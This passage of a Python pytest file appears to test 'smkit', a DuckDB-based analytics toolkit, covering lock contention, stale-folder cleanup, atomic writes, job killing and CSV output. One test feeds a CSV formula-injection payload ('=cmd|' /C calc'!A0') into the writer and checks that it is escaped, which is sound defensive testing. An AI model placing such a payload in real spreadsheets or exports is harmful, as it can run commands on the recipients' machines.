    holder = subprocess.Popen(
        [sys.executable, "-c", f"import duckdb,time; c=duckdb.connect({str(store)!r}); print('held', flush=True); time.sleep(5)"],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(StoreError, match="in use by another process .*SMKIT_LOCK_TIMEOUT"):
            connect(store, read_only=True)
    finally:
        holder.kill()
        holder.wait()


def _toy_books(tmp_path: Path, monkeypatch, cells: list[str]) -> Path:
    folder = tmp_path / "notebooks"
    folder.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Toy\n\nA toy playbook."),
        nbformat.v4.new_code_cell('store: str = ""  # the store\nn: int = 1  # n', metadata={"tags": ["parameters"]}),
    ] + [nbformat.v4.new_code_cell(c) for c in cells]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, folder / "toy.ipynb")
    monkeypatch.setenv("SMKIT_NOTEBOOKS", str(folder))
    return folder


def test_a_run_while_a_writer_holds_the_store_fails_with_manifest_report_and_index(tmp_path, store, monkeypatch):
    run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    _toy_books(tmp_path, monkeypatch, ["x = 1"])
    monkeypatch.setenv("SMKIT_LOCK_TIMEOUT", "0.5")
    holder = subprocess.Popen(
        [sys.executable, "-c", f"import duckdb,time; c=duckdb.connect({str(store)!r}); print('held', flush=True); time.sleep(20)"],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        manifest = runner.run("toy", store=str(store), reports=tmp_path / "reports", date="2026-11-01", quiet=True)
    finally:
        holder.kill()
        holder.wait()
    assert manifest.status == "failed" and "in use by another process" in manifest.error and manifest.fingerprint == "unavailable"
    folder = tmp_path / "reports" / "2026-11-01" / "toy"
    assert json.loads((folder / "manifest.json").read_text())["status"] == "failed"
    assert "in use by another process" in (folder / "report.html").read_text()
    assert "toy" in (tmp_path / "reports" / "index.html").read_text()


def test_the_sample_store_is_built_once_when_many_need_it(tmp_path, monkeypatch):
    from smkit.sample import build

    target = tmp_path / "data" / "smkit.duckdb"
    monkeypatch.setenv("SMKIT_STORE", str(target))
    calls = []

    def slow_build(path, quiet=True):
        calls.append(path)
        time.sleep(0.5)
        Path(path).write_bytes(b"")
        return path

    monkeypatch.setattr(build, "build_sample_store", slow_build)
    threads = [threading.Thread(target=build.ensure_default_store) for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(calls) == 1


def test_a_claim_left_by_a_killed_run_is_free_and_a_live_one_is_not(tmp_path):
    day = tmp_path / "2026-11-01"
    day.mkdir()
    (day / ".claim-monitor").write_text("4242")  # left by kill -9
    with runner._claimed_folder(day, "monitor", overwrite=True) as final:
        assert final.name == "monitor"
    fd = os.open(day / ".claim-monitor", os.O_CREAT | os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)  # a live run holds it
    try:
        with runner._claimed_folder(day, "monitor", overwrite=True) as final:
            assert final.name == "monitor-2"
    finally:
        os.close(fd)


def test_stale_tmp_folders_are_cleaned_and_live_ones_kept(tmp_path):
    day = tmp_path / "2026-11-01"
    dead, live = day / ".tmp-a-1", day / ".tmp-b-2"
    for folder in (dead, live):
        folder.mkdir(parents=True)
        (folder / ".lock").write_text("")
    fd = os.open(live / ".lock", os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        assert runner.clean_stale(day) == [dead]
    finally:
        os.close(fd)
    assert not dead.exists() and live.exists()


def test_a_run_folder_is_never_seen_unlocked_and_an_abandoned_one_is_cleaned(tmp_path, monkeypatch):
    day = tmp_path / "2026-11-01"
    day.mkdir()
    seen = []
    real_flock = fcntl.flock

    def flock_and_look(fd, op):  # what a parallel clean-up would find at the moment the lock is taken
        seen.append(sorted(p.name for p in day.glob(".tmp-*")))
        return real_flock(fd, op)

    monkeypatch.setattr(runner.fcntl, "flock", flock_and_look)
    fd = runner._hold_folder(day / ".tmp-run-1")
    monkeypatch.undo()
    try:
        assert seen == [[]] and (day / ".tmp-run-1" / ".lock").is_file() and not list(day.glob(".new-*"))
        assert runner.clean_stale(day) == []  # held: kept
    finally:
        os.close(fd)
    abandoned = day / ".new-run-2"
    abandoned.mkdir()
    os.utime(abandoned, (0, 0))
    assert runner.clean_stale(day) == [abandoned, day / ".tmp-run-1"]


@pytest.mark.slow
def test_killing_schedule_jobs_2_stops_its_workers_and_kernels(tmp_path, store, monkeypatch):
    import psutil

    run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    _toy_books(tmp_path, monkeypatch, ["import time\ntime.sleep(120)"])
    schedule = tmp_path / "s.yml"
    schedule.write_text("runs:\n  - playbook: toy\n    label: one\n  - playbook: toy\n    label: two\n")
    env = {**os.environ, "SMKIT_MAX_JOBS": "2"}
    parent = subprocess.Popen(
        [sys.executable, "-m", "smkit.run.cli", "schedule", str(schedule), "--jobs", "2", "--quiet", "--store", str(store), "--reports", str(tmp_path / "r")],
        env=env,
    )
    proc = psutil.Process(parent.pid)
    deadline = time.time() + 60
    while time.time() < deadline and len([c for c in proc.children(recursive=True) if "ipykernel" in " ".join(c.cmdline())]) < 2:
        time.sleep(0.5)
    family = proc.children(recursive=True)
    assert len([c for c in family if "ipykernel" in " ".join(c.cmdline())]) == 2
    os.kill(parent.pid, signal.SIGKILL)
    parent.wait()
    gone, alive = psutil.wait_procs(family, timeout=20)
    assert alive == [], [p.pid for p in alive]


def test_index_html_is_replaced_atomically(tmp_path, monkeypatch):
    reports = tmp_path / "reports"
    reports.mkdir()
    build_index(reports)
    before = (reports / "index.html").read_text()
    real = Path.write_text

    def torn(self, text, *args, **kwargs):
        real(self, text[:10], *args, **kwargs)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_text", torn)
    with pytest.raises(OSError):
        build_index(reports)
    assert (reports / "index.html").read_text() == before
    assert [p.name for p in reports.iterdir()] == ["index.html"]


def test_init_store_force_keeps_the_previous_store_and_sample_when_the_build_fails(tmp_path, monkeypatch):
    from smkit.sample import build

    target = tmp_path / "data" / "smkit.duckdb"
    run([posts_file(tmp_path)], "posts", target, platform="douyin", account="A")
    (target.parent / "sample").mkdir()
    (target.parent / "sample" / "posts.csv").write_text("kept")
    before = fingerprint(target)

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(build, "ingest", full)
    with pytest.raises(OSError):
        build.build_sample_store(target, scale=0.05)
    assert fingerprint(target) == before and (target.parent / "sample" / "posts.csv").read_text() == "kept"
    assert sorted(p.name for p in target.parent.iterdir() if p.name.startswith((".sample", "smkit.duckdb.building"))) == []


def _huge_pages_off() -> int | None:
    from smkit.data import memory_pages

    libc = memory_pages._libc()
    return None if libc is None else libc.prctl(memory_pages._PR_GET_THP_DISABLE, 0, 0, 0, 0)


@pytest.mark.skipif(_huge_pages_off() != 0, reason="needs Linux with transparent huge pages allowed for this process")
def test_ingest_turns_huge_pages_off_while_it_runs_and_restores_the_setting(tmp_path, store, monkeypatch):
    from smkit.data import ingest as ingest_module
    from smkit.data.memory_pages import small_pages

    seen = []
    real_commit = ingest_module.commit
    monkeypatch.setattr(ingest_module, "commit", lambda *a, **k: seen.append(_huge_pages_off()) or real_commit(*a, **k))
    run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    assert seen == [1] and _huge_pages_off() == 0
    with pytest.raises(IngestError):
        run([tmp_path / "missing.csv"], "posts", store, platform="douyin", account="A")
    assert _huge_pages_off() == 0  # restored after a failed ingest too
    # ingests on two threads: the setting stays off until the last one ends
    with small_pages():
        with small_pages():
            assert _huge_pages_off() == 1
        assert _huge_pages_off() == 1
    assert _huge_pages_off() == 0


def test_a_quarantine_written_by_arrow_reads_back_as_pandas_wrote_it(tmp_path):
    from smkit.data.safe_csv import write_rows_csv

    frame = pd.DataFrame(
        {
            "source_file": pd.array(["a.csv"] * 4, dtype="str"),
            "row": [2, 3, 4, 5],
            "reason": ["likes is negative", "x, with a comma", 'a "quote"', "line\nbreak"],
            "标题": pd.array(["=cmd|' /C calc'!A0", "-5", None, "@SUM(A1)"], dtype="str"),
            "点赞": pd.array(["-", "+1+1", "１２", ""], dtype="str"),
        }
    )
    fast = pd.read_csv(write_rows_csv(frame, tmp_path / "fast.csv"), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    slow = pd.read_csv(safe_write_csv(frame, tmp_path / "slow.csv", encoding="utf-8-sig"), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(fast, slow)
    assert list(fast["标题"]) == ["'=cmd|' /C calc'!A0", "-5", "", "'@SUM(A1)"] and list(fast["点赞"]) == ["'-", "'+1+1", "１２", ""]
    assert (tmp_path / "fast.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    mixed = frame.assign(row=[1.5, 2.0, 3.0, 4.0])  # decimals are left to pandas' writer
    assert pd.read_csv(write_rows_csv(mixed, tmp_path / "mixed.csv"), encoding="utf-8-sig")["row"].tolist() == [1.5, 2.0, 3.0, 4.0]
